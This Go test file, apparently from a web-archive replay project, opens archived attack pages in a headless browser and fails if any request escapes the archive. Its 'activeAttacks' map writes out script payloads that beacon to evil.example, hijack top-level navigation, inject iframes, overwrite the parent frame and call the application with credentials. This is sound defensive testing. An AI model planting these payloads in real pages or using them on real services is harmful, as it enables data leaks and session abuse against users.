package replay_test

import (
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ibid-archive/ibid/internal/chromiumtest"
	"github.com/ibid-archive/ibid/internal/replay"
)

// activeAttacks are those that need the scripts of the page.
var activeAttacks = map[string]string{
	"requests":         `<script>fetch("http://evil.example/a",{mode:"no-cors"});var x=new XMLHttpRequest();x.open("GET","http://evil.example/b");x.send();navigator.sendBeacon("http://evil.example/c");new Image().src="http://evil.example/d";new EventSource("http://evil.example/e");new WebSocket("ws://evil.example/f")</script>`,
	"the application":  `<script>fetch("APP/api/v1/a",{mode:"no-cors",credentials:"include"});new Image().src="APP/web/b";document.cookie="a=b"</script><img src="APP/c"><form action="APP/save" method=post id=f></form><script>f.submit()</script>`,
	"leaving":          `<script>location="http://evil.example/a"</script>`,
	"leaving upwards":  `<script>try{top.location="http://evil.example/a"}catch(e){};try{parent.location="http://evil.example/b"}catch(e){}</script>`,
	"windows":          `<script>window.open("http://evil.example/a");window.open("APP/b")</script>`,
	"workers":          `<script>try{navigator.serviceWorker.register("sw.js")}catch(e){};try{new Worker("data:text/javascript,fetch('http://evil.example/a')")}catch(e){};try{new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.example/b')"])))}catch(e){}</script>`,
	"frames":           `<script>var f=document.createElement("iframe");f.src="http://evil.example/a";document.documentElement.append(f);var g=document.createElement("iframe");g.srcdoc="<img src=http://evil.example/b>";document.documentElement.append(g);var h=document.createElement("iframe");h.src="APP/";document.documentElement.append(h)</script>`,
	"what is added":    `<body><script>document.body.innerHTML='<link rel=stylesheet href=http://evil.example/a><link rel=prefetch href=http://evil.example/b><video src=http://evil.example/c></video><embed src=http://evil.example/d><object data=http://evil.example/e></object><form action=http://evil.example/f><button>';document.forms[0].submit();import("http://evil.example/g")</script>`,
	"the frame around": `<script>try{parent.document.body.innerHTML="taken"}catch(e){};parent.postMessage("x","*")</script>`,
	"refreshing":       `<script>var m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=http://evil.example/a";document.head.append(m)</script>`,
}

// atOnce is how many attacks are open at a time, and watched how long each gets for what it does behind its loading: some
// wait a second.
const (
	atOnce  = 16
	watched = 1500 * time.Millisecond
)

// Attack pages are opened in a browser, in the frame of the application: no request leaves for anywhere but the archive. A
// request to the application, which on a machine of one's own answers without a credential, is one by the reader's hand,
// or an attack that worked.
func TestAttacksInABrowser(t *testing.T) {
	b := chromiumtest.Start(t)
	h := &held{}
	var s *replay.Service
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { s.Protocols(http.NotFoundHandler()).ServeHTTP(w, r) }))
	defer app.Close()
	archive := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { s.Replay().ServeHTTP(w, r) }))
	defer archive.Close()
	o := options(h)
	o.Application, o.Replay = replay.Origin{URL: app.URL}, replay.Origin{URL: archive.URL}
	s = made(t, o)
	b.Allow(strings.TrimPrefix(app.URL, "http://"), strings.TrimPrefix(archive.URL, "http://"))
	w := &watch{t: t, b: b, h: h, app: app.URL, archive: archive.URL}
	for _, name := range slices.Sorted(maps.Keys(attacks)) {
		w.add(name, "", attacks[name])
	}
	for _, name := range slices.Sorted(maps.Keys(activeAttacks)) {
		w.add("with scripts: "+name, "on_", activeAttacks[name])
	}
	for some := range slices.Chunk(w.all, atOnce) {
		w.open(some)
	}
}

// watch opens attacks and looks at what they ask for.
type watch struct {
	t            *testing.T
	b            *chromiumtest.Browser
	h            *held
	app, archive string
	all          []attack
}

// attack is an archived page; what it asks for elsewhere, it asks a host of its own for.
type attack struct{ name, host, path string }

func (w *watch) add(name, modifier, page string) {
	n := len(w.all)
	uri, host := fmt.Sprintf("http://a.example/%d", n), fmt.Sprintf("attack%d.example", n)
	page = strings.NewReplacer("APP", w.app, "ibid.example:8470", strings.TrimPrefix(w.app, "http://"), evil, host).Replace(page)
	w.h.add(w.t, uri, "20090604120000", "text/html; charset=utf-8", page)
	w.all = append(w.all, attack{name, host, "/web/20090604120000" + modifier + "/" + uri})
}

// open opens some at once.
func (w *watch) open(some []attack) {
	w.b.Asked()
	var tabs []*chromiumtest.Tab
	for _, a := range some {
		tab := w.b.Tab(w.t)
		tab.Open(w.app + a.path)
		tabs = append(tabs, tab)
	}
	select {
	case <-time.After(watched):
	case <-w.t.Context().Done():
	}
	asked := w.b.Asked()
	for i, a := range some {
		dom := chromiumtest.Eval[string](tabs[i], "document.documentElement.outerHTML")
		if !strings.Contains(dom, "Archived page") || strings.Contains(dom, "taken<") || !w.shown(a, asked) {
			w.t.Errorf("%s: it was not shown: %s", a.name, dom)
		}
		tabs[i].Close()
	}
	for _, r := range asked {
		if !w.may(some, r) {
			w.t.Errorf("%s: it asked for %+v", nameOf(some, r.URL), r)
		}
	}
}

func (w *watch) shown(a attack, asked []chromiumtest.Request) bool {
	return slices.ContainsFunc(asked, func(r chromiumtest.Request) bool { return r.URL == w.archive+a.path && r.Dest == "iframe" })
}

// may says whether r may be: the frame that was opened by hand, its style, or something of the archive.
func (w *watch) may(some []attack, r chromiumtest.Request) bool {
	opened := slices.ContainsFunc(some, func(a attack) bool { return r.URL == w.app+a.path })
	return r.Allowed && r.Method == http.MethodGet &&
		(strings.HasPrefix(r.URL, w.archive+"/web/20090604120000") || r.Site == "none" && opened || r.Site == "same-origin" && r.Dest == "style")
}

// nameOf is the attack of which a request speaks.
func nameOf(some []attack, uri string) string {
	for _, a := range some {
		if strings.Contains(uri, a.host) {
			return a.name
		}
	}
	return "one of them"
}
